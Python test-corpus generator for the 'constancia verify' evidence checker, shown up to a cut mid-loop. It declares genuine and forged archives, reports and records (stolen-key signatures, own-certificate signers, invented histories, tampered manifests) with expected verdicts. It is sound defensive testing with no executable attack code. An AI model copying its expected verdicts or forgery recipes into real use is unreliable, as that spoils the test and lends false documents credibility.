#!/usr/bin/python3 -B
"""Writes cases.json: usage: cases.py PROGRAM

States what each case of the corpus is and what `constancia verify` has to say of it: its exit status and its code. The
finding, where none is stated, and the SHA-256 of each file are noted down as they are found; a case whose status or code is
another than stated ends it, and so do two cases of one name; --any writes them all the same. Cases that are in cases.json as
they are stated here are taken from it, unless --all is given."""

import collections
import concurrent.futures
import datetime
import hashlib
import json
import pathlib
import random
import re
import sys
import tempfile

import forge

DAY, YEAR = 86400, 365 * 86400
CASES = []
LIVE = [name for name, _ in forge.unpack(forge.base("live.zip"))]
MANIFEST, ASIC, SIGNATURE = forge.MANIFEST, forge.ASIC, forge.SIGNATURE
EVENTS, SEALS, ROUNDS, LEAVES, VALIDATION, RENEWALS, CHECKPOINTS, PLACES = map(
    forge.stream, ("events", "seals", "rounds", "leaves", "validation", "renewals", "checkpoints", "log"))
STATUS = {"valid": 0, "not_valid": 1, "signer_not_established": 2, "authority_not_established": 2, "existence_only": 2,
          "could_not_check": 2}
SUFFIX = {"archive": "evidence.zip", "report": "report.pdf", "container": "container.asice", "record": "event.ers"}


def later(seconds):
    return (forge.began() + datetime.timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")


def case(name, what, code, files, *, kind="archive", at=3 * YEAR, trust="roots.pem", signer=None, receipts=None, finding=None,
         warning=None, second=None, **more):
    """`files`: a base file's name and edits, or several such files by their names. `second`: why the second verifier is not
    asked, or answers another."""
    if isinstance(files, tuple):
        files = {SUFFIX[kind]: files}
    CASES.append({"name": name, "what": what, "kind": kind, "code": code, "exit": STATUS[code], "at": later(at), "trust": trust,
                  "files": [{"name": each, "base": given[0], "edits": [list(edit) for edit in given[1:]]}
                            for each, given in files.items()],
                  **({"signer": signer} if signer else {}),
                  **({"receipts": {"name": "receipts.json", "base": receipts[0], "edits": list(receipts[1:])}}
                     if receipts else {}),
                  **({"finding": finding} if finding else {}), **({"warning": warning} if warning else {}),
                  **({"second": second} if second else {}), **more})


SIGN = ("sign",)
AGAIN = (("resum",), SIGN)
THREE = {"events": [[10, "a"], [20, "b"], [70, "c"], [80, "d"], [130, "e"], [140, "f"]],
         "rounds": [{"at": 0}, {"at": 60, "covers": [1, 2]}, {"at": 120, "covers": [3, 4], "shared": True},
                    {"at": 180, "covers": [5, 6]}]}


def history(**more):
    return (None, ("history", {**THREE, **more}))


def lies(number, **members):
    return history(lies={str(number): members})


# ---- what is genuine ----

def genuine():
    parts = {"evidence.zip": ("live.zip",), "content-part-001.zip": ("part.zip",)}
    documents = {**parts, "report-en.pdf": ("report-en.pdf",), "report-es.pdf": ("report-es.pdf",)}
    for name in ("live", "middle", "last", "renewed"):
        case(f"genuine/{name}", "as the service issued it, long after the signer's certificate has ended", "valid",
             (f"{name}.zip",))
    case("genuine/at-once", "as of an hour after it was issued", "valid", ("live.zip",), at=3600)
    case("genuine/test", "of test mode, as of the signer's time", "valid", ("test.zip",), at=DAY)
    case("genuine/test-later", "of test mode, without a timestamp: nothing shows that it is older than the end", "not_valid",
         ("test.zip",))
    case("genuine/before-issue", "as of a time before it was issued", "could_not_check", ("live.zip",), at=-3600)
    case("genuine/after-all-ends", "as of a time when the authority's certificate has ended", "could_not_check",
         ("live.zip",), at=60 * YEAR)
    case("genuine/part", "with its content part", "valid", parts)
    case("genuine/documents", "all documents of a certification", "valid", documents, kind="documents",
         second="check_archive.py knows neither reports nor records")
    case("genuine/documents-and-record", "all of it with its evidence record", "valid",
         {**documents, "record.ers": ("record.ers",)}, kind="documents",
         second="check_archive.py knows neither reports nor records")
    case("genuine/two-archives", "two archives of one channel that overlap", "valid",
         {"a.zip": ("live.zip",), "b.zip": ("middle.zip",)}, kind="histories")
    case("genuine/three-archives", "three archives of one channel", "valid",
         {"a.zip": ("live.zip",), "b.zip": ("middle.zip",), "c.zip": ("last.zip",)}, kind="histories")
    for name in ("report-en", "report-es"):
        case(f"genuine/{name}", "a report as issued", "valid", (f"{name}.pdf",), kind="report")
    case("genuine/report-test", "a report of test mode, as of the signer's time", "valid", ("report-test.pdf",), kind="report",
         at=DAY)
    case("genuine/report-test-later", "a report of test mode, after the signer's end", "not_valid", ("report-test.pdf",),
         kind="report")
    case("genuine/report-as-signed", "a report before its validation data was added: level B-T", "valid",
         ("report-en.pdf", ("revision", 1)), kind="report")
    case("genuine/container", "the container of a certification", "valid", ("container.asice",), kind="container")
    case("genuine/event-record", "an event's record: it is not signed", "existence_only",
         {"event.ers": ("event.ers",), "event.json": ("event.json",)}, kind="record")
    case("genuine/event-record-and-archive", "the same with the archive that holds the event", "valid",
         {"event.ers": ("event.ers",), "event.json": ("event.json",), "evidence.zip": ("live.zip",)}, kind="record")
    case("genuine/renewed-record", "a renewed record with its archive", "valid",
         {"event.ers": ("renewed.ers",), "event.json": ("renewed.json",), "evidence.zip": ("renewed.zip",)}, kind="record")
    case("genuine/receipts", "the receipts of its events", "valid", ("live.zip",),
         receipts=("receipts.json", ["receipt", 1, {}]), second="check_archive.py knows no receipts")
    case("genuine/packed-again", "taken apart and packed again: the same bytes", "valid", ("live.zip", ("repack", {})))
    case("genuine/signed-again", "by the same key, without revocation data: level T", "valid", ("live.zip", SIGN),
         warning="the file contains no revocation data")
    case("genuine/history", "an archive in four rounds, as the forgeries below are made", "valid", history())
    case("genuine/history-middle", "the same, of a range that ends inside its segments", "valid", history(range=[2, 5]))
    earlier = {"version": 3, "range": [5, 6]}
    case("genuine/earlier-seals", "an archive with the seals of all segments before its own", "valid",
         history(**earlier, earlier=[1, 2]))
    for name, what, more in (
            ("without-first", "the seal of the first segment is missing", {"earlier": [2]}),
            ("without-last", "the seal of the segment before the archive is missing", {"earlier": [1]}),
            ("twice", "a seal is there twice", {"earlier": [1, 1, 2]}),
            ("unordered", "the seals are in another order", {"earlier": [2, 1]}),
            ("too-many", "the seal of the archive's own segment is among them", {"earlier": [1, 2, 3]}),
            ("first-altered", "the first seal is another", {"earlier": [1, 2], "altered": {"1": {"segment_id": "seg_x"}}}),
            ("last-altered", "the last seal is another", {"earlier": [1, 2], "altered": {"2": {"segment_id": "seg_x"}}}),
            ("another-start", "the first seal begins after another genesis",
             {"earlier": [1], "range": [3, 4], "altered": {"1": {"chain_hash_before": "00" * 32}}}),
            ("another-channel", "a seal of another channel",
             {"earlier": [1, 2], "altered": {"1": {"channel_id": "chn_0000000000000000"}}}),
            ("another-chain", "a seal of a test chain", {"earlier": [1, 2], "altered": {"2": {"chain": "test"}}}),
            ("count", "a seal whose count is another", {"earlier": [1, 2], "altered": {"2": {"count": 3}}}),
            ("member", "a seal with a member more", {"earlier": [1, 2], "altered": {"1": {"more": 1}}}),
            ("version-2", "of a version that has no such seals", {"earlier": [1, 2], "version": 2})):
        case(f"earlier-seals/{name}", what, "not_valid", history(**{**earlier, **more}))
    case("genuine/history-last", "the same, its last segment", "valid", history(range=[5, 6]))


# ---- whose it is ----

def anchors():
    for name, trust, code in (("other-roots", "other-root", "signer_not_established"), ("no-roots", None,
                              "signer_not_established"), ("one-authority", "root", "authority_not_established"),
                              ("second-authority-alone", "root-two", "signer_not_established")):
        case(f"trust/{name}", "as issued, but other roots are trusted", code, ("live.zip",), trust=trust)
    case("trust/intermediates", "the intermediate certificates are trusted", "valid", ("live.zip",),
         trust=["issuer", "time", "root-two"])
    case("trust/own", "their own certificates are trusted", "valid", ("live.zip",), trust=["signer", "one", "two"])
    for name, trust in (("other-roots", "other-root"), ("no-roots", None)):
        case(f"trust/report-{name}", "a report, but other roots are trusted", "signer_not_established", ("report-en.pdf",),
             kind="report", trust=trust)
        case(f"trust/container-{name}", "a container, but other roots are trusted", "signer_not_established",
             ("container.asice",), kind="container", trust=trust)
    case("trust/signer-pinned", "the signer's certificate is asked for", "valid", ("live.zip",), signer="signer",
         second="check_archive.py asks for no certificate")
    for by in ("self-signed", "other-signer"):
        case(f"trust/{by}", "signed in the signer's name by somebody's own certificate", "signer_not_established",
             ("live.zip", ("sign", by)))
        case(f"trust/{by}-report", "a report signed in the signer's name by somebody's own certificate",
             "signer_not_established", ("report-en.pdf", ("report", by)), kind="report")
    case("trust/other-time", "both rounds' first tokens by somebody's own authority", "authority_not_established",
         history(rounds=[{**each, "by": ["other-time", "two"]} for each in THREE["rounds"]]))
    case("trust/other-time-signature", "the signature's timestamp by somebody's own authority", "authority_not_established",
         ("live.zip", ("sign", "signer", {"stamp": {"by": "other-time"}})))


NAMED = "valid for the authority's roots alone: whose certificate it is the verdict names, and --signer asks for one"
PINNED = "check_archive.py asks for no certificate"


def same_authority():
    changed = [["<constancia:EventCount>3", "<constancia:EventCount>5"], ["<constancia:LastSequence>3",
                                                                        "<constancia:LastSequence>5"]]
    for by, what in (("customer", "a customer's certificate for e-mail of the same authority"),
                     ("plain", "another seal of the same authority")):
        case(f"same-authority/{by}", f"signed by {what}: {NAMED}", "valid", ("live.zip", ("sign", by)))
        case(f"same-authority/{by}-asked", f"signed by {what}, and the service's is asked for", "not_valid",
             ("live.zip", ("sign", by)), signer="signer", second=PINNED)
        case(f"same-authority/{by}-report", f"a report with other numbers, signed by {what}: {NAMED}", "valid",
             ("report-en.pdf", ("report", by, changed)), kind="report")
        case(f"same-authority/{by}-report-asked", f"a report with other numbers, signed by {what}, and the service's is asked "
             "for", "not_valid", ("report-en.pdf", ("report", by, changed)), kind="report", signer="signer", second=PINNED)
        case(f"same-authority/{by}-history", f"an invented history signed by {what}, and the service's is asked for",
             "not_valid", history(signer=by), signer="signer", second=PINNED)
    case("same-authority/report-beside-archive", "the altered report beside the archive that it names", "not_valid",
         {"evidence.zip": ("live.zip",), "report.pdf": ("report-en.pdf", ("report", "customer", changed))}, kind="documents",
         second="check_archive.py knows no reports")


def stolen():
    late = {"time": DAY, "signing_time": None}
    case("stolen/with-list", "signed by a stolen key, with the list that says so inside", "not_valid",
         ("live.zip", ("sign", "signer", {**late, "crls": ["stolen.crl"]})))
    case("stolen/without-list", "signed by a stolen key a day later: nothing inside tells", "valid",
         ("live.zip", ("sign", "signer", late)), warning="the file contains no revocation data")
    case("stolen/successor-asked", "signed by a stolen key, and its successor's certificate is asked for", "not_valid",
         ("live.zip", ("sign", "signer", late)), signer="plain", second=PINNED)
    case("stolen/history", "an invented history, signed by a stolen key", "not_valid",
         history(issued=DAY, sign={"time": DAY + 60, "crls": ["stolen.crl"]}))
    case("stolen/report", "an altered report by a stolen key: nothing inside tells", "valid",
         ("report-en.pdf", ("report", "signer", [["<constancia:EventCount>3", "<constancia:EventCount>5"],
                                                 ["<constancia:LastSequence>3", "<constancia:LastSequence>5"]],
                            {"time": DAY})), kind="report",
         warning="the file contains no revocation data")
    case("stolen/without-timestamp", "signed by a stolen key, without a timestamp", "not_valid",
         ("live.zip", ("sign", "signer", {"stamp": False})))
    case("stolen/after-the-end", "signed after the certificate's end", "not_valid",
         ("live.zip", ("sign", "signer", {"time": 2 * YEAR})))


INVENTED = ("event.json", ("text", '"client_ref":"reference-2"', '"client_ref":"invented-2"'))


def given(base, *edits, name=None):
    return {**({"name": name} if name else {}), "base": base, "edits": [list(each) for each in edits]}


def invented():
    event = given(*INVENTED)
    record = (None, ("record", [event]))
    files = {"event.ers": record, "event.json": INVENTED}
    case("invented/event", "an invented event with a record that anybody gets", "existence_only", files, kind="record")
    case("invented/event-beside-archive", "the same beside the genuine archive", "existence_only",
         {**files, "evidence.zip": ("live.zip",)}, kind="record", finding="existence only")
    case("invented/event-in-tree", "the same, in a tree", "existence_only",
         {"event.ers": (None, ("record", [event], {"siblings": ["00" * 32, "ff" * 32]})), "event.json": INVENTED},
         kind="record")
    case("invented/old-record", "an invented event with the record of a genuine one", "not_valid",
         {"event.ers": ("event.ers",), "event.json": INVENTED}, kind="record")
    documents = [given(*INVENTED, name="event.json"), given("event.json", name="genuine.json")]
    case("invented/container", "a container of invented events, as `constancia bundle` makes it", "existence_only",
         (None, ("container", given(None, ("record", documents)), documents)), kind="container")
    mixed = [given("live.zip", name="evidence.zip"), given(*INVENTED, name="event.json")]
    case("invented/container-with-archive", "a container of a genuine archive and an invented event", "existence_only",
         (None, ("container", given(None, ("record", mixed)), mixed)), kind="container")
    own = [given(None, ("history", {**THREE, "signer": "self-signed"}), name="evidence.zip"), given("report-en.pdf",
                                                                                                    name="report-en.pdf")]
    case("invented/container-self-signed", "a container with an archive that somebody signed himself, and the report of another", "could_not_check",
         (None, ("container", given(None, ("record", own)), own)), kind="container")
    case("invented/container-other-record", "a container whose record is of other files", "not_valid",
         (None, ("container", given("record.ers"), documents)), kind="container")


def chains():
    case("chain/no-intermediate", "the signer's certificate alone is inside: nothing leads to the root", "signer_not_established",
         ("live.zip", ("sign", "signer", {"inside": ["signer"]})))
    case("chain/no-intermediate-trusted", "the same, with the intermediate trusted", "valid",
         ("live.zip", ("sign", "signer", {"inside": ["signer"]})), trust=["issuer", "time", "root-two"])
    case("chain/none", "no certificate is inside", "not_valid", ("live.zip", ("sign", "signer", {"inside": []})))
    case("chain/intermediate-alone", "the issuer's certificate is inside, the signer's is not", "not_valid",
         ("live.zip", ("sign", "signer", {"inside": ["issuer"]})))
    case("chain/other-intermediate", "with an issuer of the same name that is somebody else's", "not_valid",
         ("live.zip", ("sign", "signer", {"inside": ["signer", "other-issuer"]})))
    case("chain/superfluous", "with a certificate that is on no path", "not_valid",
         ("live.zip", ("sign", "signer", {"inside": ["signer", "issuer", "plain"]})))
    case("chain/with-root", "with the root", "valid", ("live.zip", ("sign", "signer", {"inside": ["signer", "issuer", "root"]})))
    case("chain/report-no-intermediate", "a report with the signer's certificate alone", "signer_not_established",
         ("report-en.pdf", ("report", "signer", [], {"inside": ["signer"]})), kind="report")
    case("chain/stamp-no-intermediate", "the signature's timestamp with its authority's certificate alone",
         "authority_not_established", ("live.zip", ("sign", "signer", {"stamp": {"inside": ["one"]}})))
    case("chain/round-no-intermediate", "the first tokens of the rounds with their authority's certificate alone",
         "authority_not_established", history(rounds=[{**each, "by": ["one"], "token": {"inside": ["one"]}}
                                                      for each in THREE["rounds"]]))
    case("chain/shown-another", "the signature names another certificate than its key's", "not_valid",
         ("live.zip", ("sign", "signer", {"shown": "plain", "inside": ["plain", "issuer"]})))
    case("chain/reference-another", "signing-certificate-v2 is of another certificate", "not_valid",
         ("live.zip", ("sign", "signer", {"names": "plain"})))
    case("chain/reference-none", "no signing-certificate-v2", "not_valid", ("live.zip", ("sign", "signer", {"names": ""})))


# ---- certificates ----

SIGNERS = {"documents": ("valid", "for documents"), "tls": ("not_valid", "for TLS servers"),
           "tls-and-mail": ("not_valid", "for TLS servers and e-mail"), "client": ("not_valid", "for TLS clients"),
           "code": ("not_valid", "for programs"), "ocsp": ("not_valid", "for OCSP responses"),
           "authority-as-signer": ("not_valid", "of a certification authority"),
           "issuer": ("not_valid", "of the issuer itself"), "enciphers": ("not_valid", "of a key that may not sign"),
           "rsa-1024": ("not_valid", "of RSA with 1,024 bits"), "sha-1": ("not_valid", "signed by SHA-1"),
           "ended": ("not_valid", "that had ended"), "later": ("not_valid", "that has not begun"),
           "critical": ("not_valid", "with an unknown critical extension"),
           "below-tls": ("not_valid", "below an issuer for TLS"), "below-1024": ("not_valid", "below a key of 1,024 bits"),
           "below-sha-1": ("not_valid", "below an issuer that was signed by SHA-1"),
           "below-too-deep": ("not_valid", "deeper than an issuer allows"),
           "below-leaf": ("not_valid", "issued by one that is no authority's"),
           "below-named": ("not_valid", "of a name that its issuer may not give"),
           "below-no-sign": ("not_valid", "of an issuer that may not sign certificates"),
           "one": ("not_valid", "of a timestamp authority")}
VARIES = {"varies": "its key signs with numbers drawn at random"}
AUTHORITIES = {"time-no-purpose": "without the purpose of timestamps", "time-not-critical": "whose purpose is not critical",
               "time-not-alone": "whose purpose is not alone", "time-for-mail": "for e-mail", "time-1024": "of 1,024 bits",
               "time-sha-1": "signed by SHA-1", "time-ended": "that had ended", "time-authority": "of an authority",
               "time-below-mail": "below an issuer for mail", "signer": "of a signer"}


def certificates():
    for by, (code, what) in SIGNERS.items():
        case(f"signer/{by}", f"signed with a certificate {what}", code, ("live.zip", ("sign", by, {"time": 600})))
        case(f"signer/{by}-report", f"a report signed with a certificate {what}", code,
             ("report-en.pdf", ("report", by, [], {"time": 600})), kind="report")
    for by, what in (("agrees", "a key for agreement"), ("p-192", "a curve of 192 bits")):
        case(f"signer/{by}", f"signed with {what}", "not_valid", ("live.zip", ("sign", by)), **VARIES)
    for by, what in AUTHORITIES.items():
        case(f"authority/{by}", f"the signature's timestamp by a certificate {what}", "not_valid",
             ("live.zip", ("sign", "signer", {"time": 600, "stamp": {"by": by}})))
        case(f"authority/{by}-rounds", f"the only tokens of the rounds by a certificate {what}", "not_valid",
             history(rounds=[{**each, "at": each["at"] + 200, "by": [by]} for each in THREE["rounds"]]))
        case(f"authority/{by}-report", f"a report's timestamp by a certificate {what}", "not_valid",
             ("report-en.pdf", ("report", "signer", [], {"time": 600, "stamp": {"by": by}})), kind="report")
        case(f"authority/{by}-record", f"an event's evidence record by a certificate {what}", "not_valid",
             {"event.ers": (None, ("record", [given("event.json")], {"by": by, "time": 600})), "event.json": ("event.json",)},
             kind="record")


# ---- tokens ----

def tokens():
    bad = {"another-name": ({"tsa": "two"}, "names another authority"),
           "critical": ({"extension": True, "critical": True}, "has an unknown critical extension"),
           "sha-1": ({"digest": "sha1"}, "is signed by SHA-1"), "digest-lie": ({"lie": None}, "is of another content"),
           "reference": ({"names": "two"}, "refers to another certificate"),
           "no-reference": ({"names": ""}, "refers to no certificate"),
           "version": ({"version": 2}, "is of a version that it cannot have"),
           "no-certificate": ({"inside": ["time"]}, "has not its own certificate inside")}
    good = {"own-name": ({"tsa": "one"}, "names its own authority"), "extension": ({"extension": True}, "has an extension that is "
            "not critical"), "attribute-certificate": ({"attribute_certificate": True}, "has an attribute certificate inside"),
            "no-accuracy": ({"accuracy": False}, "states no accuracy"), "sha-384": ({"digest": "sha384"}, "is signed by SHA-384"),
            "alone-with-issuer": ({"inside": ["one", "time"]}, "has no root inside"),
            "more-certificates": ({"inside": ["one", "time", "plain"]}, "has a certificate inside that is on no path"),
            "answers": ({"crls": ["live.zip#-1"], "version": 5}, "has revocation data in crls")}
    for code, made in (("not_valid", bad), ("valid", good)):
        for name, (options, what) in made.items():
            options = {key: value for key, value in options.items() if key != "lie"} | ({"bad_digest": True} if "lie" in options
                                                                                       else {})
            case(f"token/{name}", f"the signature's timestamp {what}", code,
                 ("live.zip", ("sign", "signer", {"stamp": options})))
            case(f"token/{name}-rounds", f"each round's only token {what}", code,
                 history(rounds=[{**each, "by": ["one"], "token": options} for each in THREE["rounds"]]))
            case(f"token/{name}-record", f"the token of an event's record {what}", "existence_only" if code == "valid" else code,
                 {"event.ers": (None, ("record", [given("event.json")], options)), "event.json": ("event.json",)},
                 kind="record")
            case(f"token/{name}-report", f"a report's signature timestamp {what}", code,
                 ("report-en.pdf", ("report", "signer", [], {"stamp": options})), kind="report")
    case("token/elsewhere", "the signature's timestamp is over something else", "not_valid",
         ("live.zip", ("sign", "signer", {"stamp": {"elsewhere": True}})))
    case("token/two", "two timestamps of the signature", "not_valid", ("live.zip", ("sign", "signer", {"stamp": {"count": 2}})))
    case("token/none", "no timestamp of the signature", "not_valid", ("live.zip", ("sign", "signer", {"stamp": False})))
    case("token/before-issue", "the signature's timestamp is earlier than issued_at", "not_valid",
         ("live.zip", ("sign", "signer", {"time": -600})))
    for which in (0, 1):
        for name, options, what in (("imprint", {"imprint": "00" * 32}, "is over another root"),
                                    ("time", {"time": 3600}, "is of another time than stated")):
            case(f"token/{name}-{which}", f"a token of a round {what}, signed again", "not_valid",
                 ("live.zip", ("token_of", 1, which, options), *AGAIN))
        case(f"token/again-{which}", "a token of the last round recreated by its authority's key", "valid",
             ("live.zip", ("token_of", 1, which, {}), *AGAIN))
    case("token/first-again", "the token of the round before recreated: the seal names another", "not_valid",
         ("live.zip", ("token_of", 0, 0, {}), *AGAIN))


# ---- histories that somebody with the keys writes ----

def histories():
    case("history/no-token-before", "the second segment names no token before", "not_valid",
         lies(2, previous_token_hash=None))
    case("history/no-token-before-middle", "a segment that is not the first names no token before, and the first is not in it",
         "could_not_check", history(range=[3, 6], lies={"2": {"previous_token_hash": None}}, omit=[1]))
    case("history/no-token-before-last", "the only segment inside, not the first, names no token before", "could_not_check",
         history(range=[5, 6], lies={"3": {"previous_token_hash": None}}, omit=[2]))
    case("history/first-names-none", "the first segment of a chain names none, as the first of a service", "valid",
         history(lies={"1": {"previous_token_hash": None}}, omit=[0]))
    for number in (0, 1, 2, 3):
        case(f"history/without-round-{number}", "a round is missing that a segment or the round behind needs", "not_valid",
             history(omit=[number]))
    case("history/without-round-before", "the round before the only segment is missing", "not_valid",
         history(range=[5, 6], omit=[2]))
    many = [{"at": 60 * number, "by": ["one"]} for number in range(55)]
    case("history/backdated", "events that claim to be of 54 minutes before their segment, behind 54 other rounds", "valid",
         history(events=[[10, "a"], [11, "b"]], rounds=[*many, {"at": 3300, "covers": [1, 2]}]),
         warning="before timestamps that do not cover them")
    case("history/backdated-second", "the same in a second segment", "valid",
         history(events=[[10, "a"], [70, "b"]], rounds=[{"at": 0}, {"at": 60, "covers": [1, 1]}, *[
             {"at": 120 + 60 * number, "by": ["one"]} for number in range(54)], {"at": 3360, "covers": [2, 2]}]),
         warning="before timestamps that do not cover them")
    case("history/from-the-future", "an event received long after its timestamp", "not_valid",
         history(events=[*THREE["events"][:5], [600, "f"]]))
    case("history/unordered-events", "an event received before the one before", "not_valid",
         history(events=[[10, "a"], [20, "b"], [70, "c"], [60, "d"], [130, "e"], [140, "f"]]))
    case("history/rounds-unordered", "a round whose time is before that of the round before", "not_valid",
         history(rounds=[{"at": 0}, {"at": 900, "covers": [1, 2]}, {"at": 120, "covers": [3, 4]},
                         {"at": 1000, "covers": [5, 6]}]))
    case("history/diverging", "two tokens of a round whose times diverge", "valid", history(), second=None)
    CASES.pop()
    case("history/issued-early", "issued before its last round", "not_valid", history(issued=-300))
    other = {**THREE, "events": [[5, "other"], *THREE["events"][1:]], "certification": "CERT-2026-0000100"}
    case("history/two-that-touch", "two archives of one channel and of two histories, which touch", "not_valid",
         {"a.zip": history(range=[1, 3]), "b.zip": (None, ("history", {**other, "range": [3, 6]}))}, kind="histories")
    case("history/two-that-overlap", "two archives of one channel and of two histories", "not_valid",
         {"a.zip": history(), "b.zip": (None, ("history", other))}, kind="histories")
    case("history/two-apart", "two archives of two histories whose ranges do not touch: it cannot be seen, and that is told",
         "valid", {"a.zip": history(range=[1, 2]), "b.zip": (None, ("history", {**other, "range": [5, 6]}))}, kind="histories",
         warning="have no event in common")
    later = {"version": 3, "range": [5, 6], "earlier": [1, 2], "certification": "CERT-2026-0000100"}
    case("earlier-seals/two-of-one-history", "two archives of one history whose ranges do not touch, with the seals between them",
         "valid", {"a.zip": history(range=[1, 2]), "b.zip": history(**later)}, kind="histories")
    case("earlier-seals/two-histories", "two archives of two histories whose ranges do not touch, with the seals between them",
         "not_valid", {"a.zip": history(range=[1, 2]), "b.zip": (None, ("history", {**other, **later}))}, kind="histories")
    case("history/two-of-one", "two archives of one certification", "not_valid",
         {"a.zip": history(range=[1, 2]), "b.zip": history(range=[1, 4])}, kind="histories")
    case("history/beside-genuine", "an invented history beside the genuine archive", "not_valid",
         {"a.zip": ("live.zip",), "b.zip": history()}, kind="histories")
    for name, members in {
            "count": {"count": 3}, "chain": {"chain": "test"}, "channel": {"channel_id": "chn_0000000000000000"},
            "hash-before": {"chain_hash_before": "00" * 32}, "hash-last": {"chain_hash_last": "00" * 32},
            "seal-before": {"previous_seal_hash": "00" * 32}, "no-seal-before": {"previous_seal_hash": None},
            "token-before": {"previous_token_hash": "00" * 32}, "first": {"first_sequence": 2}, "last": {"last_sequence": 5},
            "version": {"v": 2}, "member": {"more": 1}}.items():
        case(f"seal/{name}", f"the second segment's seal has another {name}, signed again", "not_valid", lies(2, **members))
    case("seal/first-seal-before", "the first segment names a seal before", "not_valid", lies(1, previous_seal_hash="00" * 32))
    case("history/requested-times", "asked for by times, all within", "valid", history(requested={
        "from": forge.stated(forge.moment(0)), "to": forge.stated(forge.moment(200)), "seq_from": None, "seq_to": None}))
    case("history/requested-earlier", "asked for by times, an event outside", "not_valid", history(requested={
        "from": forge.stated(forge.moment(15)), "to": forge.stated(forge.moment(200)), "seq_from": None, "seq_to": None}))
    case("history/requested-other", "asked for other numbers than frozen", "not_valid", history(requested={
        "from": None, "to": None, "seq_from": 1, "seq_to": 5}))
    case("history/requested-nothing", "asked for nothing", "not_valid", history(requested={
        "from": None, "to": None, "seq_from": None, "seq_to": None}))


# ---- documents altered, and everything signed again by the service's own key ----

def documents():
    changes = {
        "events": [(EVENTS, [1, member], new) for member, new in (
            ("client_ref", "another"), ("hash", "00" * 32), ("hash", "zz"), ("hash_alg", "sha-512"), ("hash_alg", "md5"),
            ("received_at", "2026-01-01T00:00:00.000000Z"), ("received_at", "yesterday"), ("sequence", 3), ("chain", "test"),
            ("channel_id", "chn_0000000000000000"), ("config_version", 2), ("config_hash", "00" * 32), ("event_id", ""),
            ("modality", "hash_only"), ("modality", "none"), ("occurred_at", "2026-01-01T00:00:00.000000Z"),
            ("previous_chain_hash", "00" * 32), ("v", 2), ("v", True), ("v", 1.0), ("more", 1), ("hash", ["-"]),
            ("client_ref", ["-"]), ("sequence", "2"))],
        "seals": [(SEALS, [0, *path], new) for path, new in (
            (["path"], ["00" * 32]), (["path"], ["00" * 32] * 41), (["round_id"], "rnd_1"), (["round_id"], "rnd_9"),
            (["seal", "clock", "synchronized"], True), (["seal", "segment_id"], "another"), (["seal", "count"], 4),
            (["seal", "clock"], ["-"]), (["more"], 1))],
        "rounds": [(ROUNDS, path, new) for path, new in (
            ([0, "root"], "00" * 32), ([1, "root"], "00" * 32), ([1, "gen_time"], "2026-01-01T00:00:00.000000Z"),
            ([1, "round_id"], "rnd_1"), ([1, "tokens"], []), ([1, "tokens", 0, "kind"], "unknown"),
            ([1, "tokens", 0, "gen_time"], "2026-01-01T00:00:00.000000Z"), ([1, "tokens", 0, "token"], ""),
            ([1, "tokens", 0, "token"], "AAAA"), ([1, "tokens", 0, "token"], "?"), ([1, "tokens", 0, "certificates"], ["00" * 32]),
            ([1, "tokens", 0, "certificates"], []), ([1, "tokens", 0, "revocations"], []),
            ([1, "tokens", 0, "renewal"], {"path": [], "stamp": 1}), ([1, "tokens", 1], ["-"]), ([0, "more"], 1),
            ([1, "tokens", 0, "more"], 1), ([0, "tokens", 0, "token"], ["-"]))],
        "leaves": [(LEAVES, [0, member], new) for member, new in (
            ("chain_hash", "00" * 32), ("chain_hash", "00"), ("sequence", 5), ("sequence", 1), ("more", 1))],
        "validation": [(VALIDATION, [0, member], new) for member, new in (
            ("der", "AAAA"), ("kind", "ocsp"), ("kind", "key"), ("sha256", "00" * 32), ("more", 1))],
        "genesis": [("genesis.json", [member], new) for member, new in (
            ("chain", "test"), ("channel_id", "chn_0000000000000000"), ("created_at", "2026-01-01T00:00:00.000000Z"), ("v", 2),
            ("more", 1), ("created_at", ["-"]))],
        "config": [("config/config-000001.json", [member], new) for member, new in (
            ("declarant", "Somebody else"), ("version", 2), ("modality", "hash_only"), ("channel_id", "chn_0000000000000000"),
            ("sealed_at", "now"), ("description", 1))],
        "manifest": [(MANIFEST, path, new) for path, new in (
            (["certification_id"], ["-"]), (["channel_id"], "chn_0000000000000000"), (["event_count"], 4), (["mode"], "test"),
            (["mode"], "other"), (["frozen_range", "last_sequence"], 4), (["frozen_range", "first_sequence"], 0),
            (["requested_range", "seq_to"], 4), (["first_chain_hash"], "00" * 32), (["last_chain_hash"], "00" * 32),
            (["previous_chain_hash"], "00" * 32), (["issued_at"], "2026-01-01T00:00:00.000000Z"), (["v"], 1), (["v"], 4),
            (["config_versions"], []), (["config_versions", 0, "hash"], "00" * 32), (["config_versions", 0, "version"], 2),
            (["content_parts", 0, "first_sequence"], 3), (["more"], 1), (["service"], ["-"]), (["verification_code"], ["-"]))],
    }
    for group, listed in changes.items():
        for number, (name, path, new) in enumerate(listed, 1):
            code = "valid" if (name, path[1:]) in ((ROUNDS, ["tokens", 0, "revocations"]), (ROUNDS, ["tokens", 1]),
                                                   (MANIFEST, [0, "first_sequence"])) else "not_valid"
            to = "left out" if new == ["-"] else "altered"
            member = ".".join(map(str, path[1:] if name.endswith(".gz") else path))
            case(f"document/{group}-{number:02}", f"{name}: {member} {to}, all digests and the signature recomputed", code,
                 ("live.zip", ("change", name, path, new), *AGAIN))
    case("document/part-range", "the range of a content part altered, which is given, all else recreated", "not_valid",
         {"evidence.zip": ("live.zip", ("change", MANIFEST, ["content_parts", 0, "first_sequence"], 3), *AGAIN),
          "content-part-001.zip": ("part.zip",)})
    for name in (EVENTS, SEALS, ROUNDS, LEAVES, VALIDATION, "genesis.json", "config/config-000001.json", MANIFEST):
        case(f"document/loose-{name.split('/')[0].split('.')[0]}", f"{name} is not canonical, all else recreated", "not_valid",
             ("live.zip", ("loose", name), *((("reasic",), SIGN) if name == MANIFEST else AGAIN)))
    for name, numbers, what in ((EVENTS, [0, 1], "its last line left out"), (EVENTS, [0, 2, 1], "in another order"),
                                (EVENTS, [0, 0, 1, 2], "a line twice"), (EVENTS, [], "empty"), (LEAVES, [0], "the last left out"),
                                (LEAVES, [1, 0], "in another order"), (LEAVES, [0, 1, 1], "a line twice"), (SEALS, [], "empty"),
                                (SEALS, [0, 0], "twice"), (ROUNDS, [1], "the round before left out"),
                                (ROUNDS, [0], "the segment's left out"), (ROUNDS, [1, 0], "in another order"),
                                (ROUNDS, [0, 1, 1], "a line twice"), (VALIDATION, [0], "all but one left out"),
                                (VALIDATION, [1, 0], "in another order")):
